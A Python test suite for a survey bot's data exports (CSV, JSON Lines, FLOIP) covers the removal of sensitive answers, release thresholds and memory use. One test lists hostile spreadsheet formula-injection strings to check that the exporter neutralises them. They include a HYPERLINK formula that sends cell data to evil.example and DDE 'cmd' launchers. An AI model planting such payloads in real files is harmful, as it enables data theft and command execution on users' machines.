"""Open-data exports: CSV (long and wide) that round-trips, JSON Lines, a FLOIP package
that frictionless validates, sensitive steps and rare choices left out, and a
80,000-answer export in flat memory."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import tracemalloc
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import frictionless

from bot.reports import exports
from tests.conftest import START, Harness

GUIDE = """
guide: shop
version: 3
title: Shop floor
steps:
  - id: sector
    choose: What do you do?
    options: [Retail, Health care, Other]
  - id: helps
    choose_many: What would help?
    options: [Training, A union, Better pay]
  - id: worry
    scale: How worried are you?
  - id: hours
    number: Hours last week?
    range: [0, 100]
  - id: story
    ask: Tell us one thing.
  - id: health
    ask: Anything about your health?
    sensitive: true
"""


async def filled(make_harness, quotable: bool = False) -> Harness:  # type: ignore[no-untyped-def]
    guide = GUIDE.replace("ask: Tell us one thing.", "ask: Tell us one thing.\n    quotable: true")
    h: Harness = make_harness(guide if quotable else GUIDE)
    for n in range(6):
        sector = "3" if n == 0 else "1"  # only one person says Other
        for text in ("/start shop", sector, "1, 3", "4", str(30 + n),
                     f'Line, "quoted", and\nnew line {n}', f"private {n}"):  # fmt: skip
            await h.say(text, user=f"p{n}")
    return h


def guide_of(h: Harness):  # type: ignore[no-untyped-def]
    loaded = h.library.get("shop")
    assert loaded is not None and loaded.guide is not None
    return loaded.guide


async def test_csv_round_trips_and_leaves_sensitive_steps_out(make_harness):  # type: ignore[no-untyped-def]
    h = await filled(make_harness)
    out = io.StringIO()
    count = await exports.write_csv(exports.answers(h.storage, guide_of(h)), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert count == len(rows) == 6 * 5
    assert set(rows[0]) == set(exports.LONG_FIELDS)
    stories = [r["answer"] for r in rows if r["step"] == "story"]
    assert 'Line, "quoted", and\nnew line 0' in stories  # commas, quotes, line breaks survive
    assert {r["answer"] for r in rows if r["step"] == "helps"} == {"training; better-pay"}
    assert all(re.fullmatch(r"[0-9a-f]{32}", r["participant"]) for r in rows)
    assert not any(r["step"] == "health" for r in rows)
    assert {r["guide_version"] for r in rows} == {"3"}
    with_sensitive = [
        a async for a in exports.answers(h.storage, guide_of(h), include_sensitive=True)
    ]
    assert sum(a.step == "health" for a in with_sensitive) == 6


async def test_wide_csv_is_one_row_per_run(make_harness):  # type: ignore[no-untyped-def]
    h = await filled(make_harness)
    out = io.StringIO()
    rows_in = exports.answers(h.storage, guide_of(h), by_run=True)
    assert await exports.write_wide_csv(rows_in, guide_of(h), out) == 6
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["hours"] for r in sorted(rows, key=lambda r: r["hours"])] == [
        str(30 + n) for n in range(6)
    ]
    assert "health" not in rows[0]  # sensitive: not even its column, unless asked for
    out = io.StringIO()
    everything = exports.answers(h.storage, guide_of(h), include_sensitive=True, by_run=True)
    await exports.write_wide_csv(everything, guide_of(h), out, include_sensitive=True)
    assert {r["health"] for r in csv.DictReader(io.StringIO(out.getvalue()))} == {
        f"private {n}" for n in range(6)
    }


async def test_jsonl_and_public_release_thresholds(make_harness):  # type: ignore[no-untyped-def]
    """A public release holds back whatever fewer than the minimum group gave, counted
    over the export's own dates: it held back rare single choices only, and published
    each person's own number, rare options of a choose-many answer, and every written
    answer (found by review)."""
    h = await filled(make_harness, quotable=True)
    h.clock.advance(days=1)
    later = h.clock()
    for text in ("/start shop", "1", "2", "4", "30", "more staff", "fine"):  # a union: theirs
        await h.say(text, user="p6")

    async def released(min_group: int, since: datetime | None = None) -> dict[str, list[object]]:
        out = io.StringIO()
        await exports.write_jsonl(
            exports.answers(h.storage, guide_of(h), since=since, min_group=min_group), out
        )
        by_step: dict[str, list[object]] = {}
        for line in out.getvalue().splitlines():
            record = json.loads(line)
            by_step.setdefault(record["step"], []).append(record["answer"])
        return by_step

    public = await released(5)
    assert public["sector"] == ["retail"] * 6  # "other", chosen by one person, is dropped
    assert public["helps"] == [["training", "better-pay"]] * 6  # p6's one option: gone
    assert public["worry"] == [4] * 7
    assert len(public["story"]) == 7  # quotable, and seven people answered it
    # No number (30, the only one given twice, is still too few), nothing sensitive.
    assert set(public) == {"sector", "helps", "worry", "story"}
    assert "story" not in await released(8)  # quotes come from at least k people
    assert [a for a in (await released(2)).get("hours", [])] == [30, 30]
    # Counted in the export's dates: seven gave worry 4 in all, one since `later`.
    assert await released(2, since=later) == {}
    unlimited = io.StringIO()
    await exports.write_jsonl(exports.answers(h.storage, guide_of(h), since=later), unlimited)
    assert len(unlimited.getvalue().splitlines()) == 5  # p6's five, with no minimum group


async def test_floip_package_validates_and_rows_follow_the_rules(make_harness, tmp_path: Path):  # type: ignore[no-untyped-def]
    h = await filled(make_harness)
    guide = guide_of(h)
    folder = tmp_path / "floip"
    count = await exports.write_floip(exports.answers(h.storage, guide), guide, folder, START)
    descriptor = json.loads((folder / "datapackage.json").read_text())
    assert descriptor["profile"] == "flow-results-package"
    assert descriptor["flow_results_specification_version"] == "1.0.0"
    assert re.fullmatch(r"[0-9a-f-]{36}", descriptor["id"])
    assert descriptor["created"] == descriptor["modified"] == START.isoformat()
    resource = descriptor["resources"][0]
    names = [f["name"] for f in resource["schema"]["fields"]]
    assert names == ["timestamp", "row_id", "contact_id", "session_id", "question_id",
                     "response", "response_metadata"]  # fmt: skip
    questions = resource["schema"]["questions"]
    assert questions["sector"]["type"] == "select_one"
    assert questions["sector"]["type_options"]["choices"] == ["retail", "health-care", "other"]
    assert questions["helps"]["type"] == "select_many"
    assert questions["hours"] == {"type": "numeric", "label": "Hours last week?",
                                  "type_options": {"range": [0, 100]}}  # fmt: skip
    assert "health" not in questions  # sensitive: left out of the package entirely
    # frictionless knows no "flow-results-package" profile: check it as a data package.
    copy = dict(descriptor, profile="data-package")
    (folder / "as-data-package.json").write_text(json.dumps(copy))
    report = frictionless.validate(str(folder / "as-data-package.json"))
    assert report.valid, report.flatten(["type", "note"])
    rows = json.loads((folder / resource["path"]).read_text())
    assert len(rows) == count == 30
    assert len({row[1] for row in rows}) == len(rows)  # row_id unique
    for timestamp, _row_id, contact, session, question, response, meta in rows:
        assert datetime.fromisoformat(timestamp).utcoffset() is not None
        assert re.fullmatch(r"[0-9a-f]{32}", contact) and session
        spec = questions[question]
        if spec["type"] == "select_one":
            assert response in spec["type_options"]["choices"]
        elif spec["type"] == "select_many":
            assert set(response) <= set(spec["type_options"]["choices"])
        elif spec["type"] == "numeric" and "range" in spec["type_options"]:
            low, high = spec["type_options"]["range"]
            assert low <= response <= high
        else:
            assert isinstance(response, str)
        assert meta["guide_version"] == 3


async def test_eighty_thousand_answers_export_in_flat_memory(make_harness, tmp_path: Path):  # type: ignore[no-untyped-def]
    h: Harness = make_harness(GUIDE)
    db = sqlite3.connect(tmp_path / "kt.db")
    with db:
        db.executemany(
            "INSERT INTO runs (id, participant, guide_id, guide_version, guide_hash, status,"
            " state, started_at, updated_at) VALUES (?, ?, 'shop', 3, 'h', 'finished', '{}', ?, ?)",
            [(f"r{n}", f"{n:032x}", START.isoformat(), START.isoformat()) for n in range(16_000)],
        )
        stamp = (START + timedelta(hours=1)).astimezone(UTC)
        db.executemany(
            "INSERT INTO answers (run_id, step, participant, guide_id, guide_version, kind,"
            " value, answered_at) VALUES (?, ?, ?, 'shop', 3, 'ask', ?, ?)",
            [(f"r{n // 5}", f"s{n % 5}", f"{n // 5:032x}", json.dumps("a fairly ordinary answer " * 4),
              (stamp + timedelta(microseconds=n)).isoformat()) for n in range(80_000)],
        )  # fmt: skip
    db.close()

    class Null(io.TextIOBase):
        def write(self, text: str) -> int:
            return len(text)

    tracemalloc.start()
    count = await exports.write_csv(exports.answers(h.storage, guide_of(h)), Null())  # type: ignore[arg-type]
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert count == 80_000
    # About 10 MB of answers went through; held all at once they would take several
    # times that. Read a page at a time, the peak is under 3 MB, whatever their number.
    assert peak < 5 * 1024 * 1024, peak


FORMULAS = """
guide: sheet
version: 1
title: Spreadsheet
steps:
  - id: said
    ask: Say anything.
    scrub: false
  - id: change
    number: By how many hours did your week change?
"""
HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for your results")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
]


async def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(make_harness):  # type: ignore[no-untyped-def]
    h: Harness = make_harness(FORMULAS)
    for n, said in enumerate(HOSTILE):
        for text in ("/start sheet", said, str(-3 - n)):
            await h.say(text, user=f"p{n}")
    loaded = h.library.get("sheet")
    assert loaded is not None and loaded.guide is not None
    guide = loaded.guide

    out = io.StringIO()
    await exports.write_csv(exports.answers(h.storage, guide), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    said = sorted(r["answer"] for r in rows if r["step"] == "said")
    # JSON Lines and the FLOIP package carry the answers exactly as given (trimmed).
    jsonl = io.StringIO()
    await exports.write_jsonl(exports.answers(h.storage, guide), jsonl)
    records = [json.loads(line) for line in jsonl.getvalue().splitlines()]
    given = sorted(r["answer"] for r in records if r["step"] == "said")
    assert given == sorted(text.strip() for text in HOSTILE)
    assert sorted(r["answer"] for r in records if r["step"] == "change") == [-7, -6, -5, -4, -3]
    assert said == sorted("'" + text for text in given)  # shown as typed, never run
    # Numbers stay numbers: a spreadsheet reads -3 as minus three, not as a formula.
    assert sorted(r["answer"] for r in rows if r["step"] == "change") == [
        "-3", "-4", "-5", "-6", "-7"]  # fmt: skip

    wide = io.StringIO()
    await exports.write_wide_csv(exports.answers(h.storage, guide, by_run=True), guide, wide)
    wide_rows = list(csv.DictReader(io.StringIO(wide.getvalue())))
    assert sorted(r["said"] for r in wide_rows) == said
    assert sorted(r["change"] for r in wide_rows) == ["-3", "-4", "-5", "-6", "-7"]


async def test_every_csv_cell_is_neutralised_not_only_answers() -> None:
    """Steps and languages come from guide authors, and a carriage return, a NUL or a
    right-to-left override can be in data stored by an older version: every cell gets
    the same rule."""

    async def rows() -> AsyncIterator[exports.Answer]:
        yield exports.Answer(START, "=run", "-step", 1, "+who", "ask", "\r=1+1", "@en")
        yield exports.Answer(START, "run2", "s", 1, "who", "choose_many", ["-a", "b"], "en")
        yield exports.Answer(START, "run3", "s", 1, "who", "number", -2.5, "en")
        yield exports.Answer(START, "run4", "s", 1, "who", "ask", "\tx\x00\u202e", "en")

    out = io.StringIO()
    await exports.write_csv(rows(), out)
    got = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert got[0] == ["'=run", "'+who", "'-step", "ask", "'=1+1", START.isoformat(), "1",
                      "'@en"]  # fmt: skip
    assert got[1][4] == "'-a; b"
    assert got[2][4] == "-2.5"
    assert got[3][4] == "'\tx"  # invisible characters kept by older versions are dropped
